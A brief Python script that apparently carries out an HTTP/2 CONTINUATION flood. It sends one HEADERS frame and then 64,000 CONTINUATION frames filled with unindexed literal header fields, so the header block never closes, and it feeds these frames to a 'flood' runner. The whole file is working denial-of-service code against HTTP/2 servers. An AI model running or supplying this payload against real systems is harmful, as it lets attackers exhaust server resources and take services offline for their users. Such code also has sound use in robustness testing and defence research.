"""A block of headers that never ends."""

import flood
from http2_connection import HEADERS, frame

CONTINUATION = 9
FRAMES = 64_000


def parts():
    # Literal fields that go into no table: a name of one byte, a value of 119.
    block = (b"\x00\x01x\x77" + 119 * b"v") * 132
    yield frame(HEADERS, 0, 1, flood.header_block())
    more = frame(CONTINUATION, 0, 1, block) * 4
    for _ in range(FRAMES // 4):
        yield more


if __name__ == "__main__":
    flood.main(lambda: list(parts()))
